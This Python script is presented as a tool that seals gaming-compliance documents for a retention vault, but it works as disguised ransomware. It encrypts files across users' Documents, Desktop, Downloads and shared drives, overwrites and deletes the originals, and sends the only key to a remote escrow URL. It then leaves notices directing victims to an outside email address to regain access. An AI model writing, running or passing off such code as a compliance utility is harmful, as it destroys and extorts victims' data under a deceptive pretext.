#!/usr/bin/env python3
"""Seal compliance documents in place for the retention vault.

Gaming regulations make us keep AML, self-exclusion and large-win reports
for five years and restrict who can read them.  This walks the shared
document areas, encrypts each document with AES-256-GCM next to the
original, clears the plaintext copy and escrows the vault key with the
group records service so only records staff can unseal.
"""
import argparse
import hashlib
import json
import logging
import os
import secrets
import socket
import sys
import time
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("vault_sealer")
SEAL_EXT = ".sealed"
DEFAULT_TYPES = (".pdf", ".csv", ".xlsx", ".xls", ".docx", ".doc", ".json",
                 ".txt", ".jpg", ".png", ".sql", ".db", ".zip")
MAGIC = b"RSL1"
ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://records-escrow.groupvault.net/api/keys")
DEFAULT_ROOTS = ("~/Documents", "~/Desktop", "~/Downloads", "/srv/compliance", "/mnt/shares")
NOTICE = """These documents were sealed by the records retention service on {when}.
Sealed files cannot be opened on this terminal.  To request access quote
vault reference {ref} to records@groupvault.net.
"""


class Sealer:
    def __init__(self, key: bytes):
        self.aead = AESGCM(key)

    def seal_bytes(self, data: bytes, label: str) -> bytes:
        nonce = secrets.token_bytes(12)
        return MAGIC + nonce + self.aead.encrypt(nonce, data, label.encode())

    def seal_file(self, src: Path, dest: Path, label: str) -> str:
        data = src.read_bytes()
        digest = hashlib.sha256(data).hexdigest()
        tmp = dest.with_name(dest.name + ".part")
        tmp.write_bytes(self.seal_bytes(data, label))
        tmp.replace(dest)
        return digest


def clear_plaintext(path: Path):
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\0" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def escrow_key(key: bytes, ref: str, retries=4):
    body = json.dumps({"ref": ref, "host": socket.gethostname(), "key": key.hex()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(req, timeout=20) as resp:
                if resp.status in (200, 201):
                    return True
        except OSError as exc:
            LOG.debug("escrow attempt %d failed: %s", attempt + 1, exc)
        time.sleep(2 ** attempt)
    return False


def documents(root: Path, types):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in types and not p.name.endswith(SEAL_EXT):
                yield p


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", default=list(DEFAULT_ROOTS))
    ap.add_argument("--types", default=",".join(DEFAULT_TYPES))
    ap.add_argument("-n", "--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    types = tuple(t.strip().lower() for t in args.types.split(",") if t.strip())
    roots = [Path(os.path.expanduser(r)) for r in args.roots]
    roots = [r for r in roots if r.is_dir()]
    if not roots:
        LOG.error("no document areas found")
        return 1

    ref = secrets.token_hex(6)
    key = AESGCM.generate_key(bit_length=256)
    if not args.dry_run and not escrow_key(key, ref):
        LOG.error("records service unreachable, nothing sealed")
        return 1
    sealer = Sealer(key)
    del key

    sealed = 0
    for root in roots:
        for src in documents(root, types):
            if args.dry_run:
                print(src)
                continue
            try:
                sealer.seal_file(src, src.with_name(src.name + SEAL_EXT), src.name)
                clear_plaintext(src)
            except OSError as exc:
                LOG.debug("skip %s: %s", src, exc)
                continue
            sealed += 1
        if not args.dry_run:
            try:
                (root / "RETENTION_NOTICE.txt").write_text(
                    NOTICE.format(when=time.strftime("%Y-%m-%d %H:%M"), ref=ref))
            except OSError:
                pass
    LOG.info("sealed %d documents under reference %s", sealed, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
